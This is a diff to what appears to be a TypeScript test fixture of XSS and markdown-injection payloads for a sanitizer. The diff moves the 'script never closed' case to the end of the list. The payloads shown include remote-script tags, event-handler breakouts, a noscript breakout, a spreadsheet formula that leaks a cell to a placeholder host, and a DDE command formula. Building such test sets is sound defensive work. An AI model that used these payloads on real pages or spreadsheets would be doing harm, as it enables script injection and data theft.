@@ -13,7 +13,6 @@ export const attacks: readonly Attack[] = [
   {name: 'script from elsewhere', markdown: '<script src="WEB/a.js"></script>'},
   {name: 'module script', markdown: '<script type="module">import "WEB/b.js"</script>'},
   {name: 'script with odd case and spaces', markdown: '<ScRiPt \n>RUN</sCrIpT >'},
-  {name: 'script never closed', markdown: '<script>RUN'},
   {name: 'script split by a comment', markdown: '<scr<!-- -->ipt>RUN</script>'},
   {name: 'nested script', markdown: '<scr<script>ipt>RUN</scr</script>ipt>'},
   {name: 'noscript breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'},
@@ -103,5 +102,7 @@ export const attacks: readonly Attack[] = [
   {name: 'code language that breaks out', markdown: '```"><img/src=x/onerror=RUN>\ncode\n```'},
   {name: 'alt that breaks out', markdown: '![" onerror="RUN](evil.svg "\' onload=\'RUN")'},
   {name: 'formula', markdown: '=HYPERLINK("WEB/leak?"&A1,"x")'},
-  {name: 'formula with DDE', markdown: "+cmd|' /C calc'!A0"}
+  {name: 'formula with DDE', markdown: "+cmd|' /C calc'!A0"},
+  // Last: it swallows the rest of the file, as it does in a browser.
+  {name: 'script never closed', markdown: '<script>RUN'}
 ]
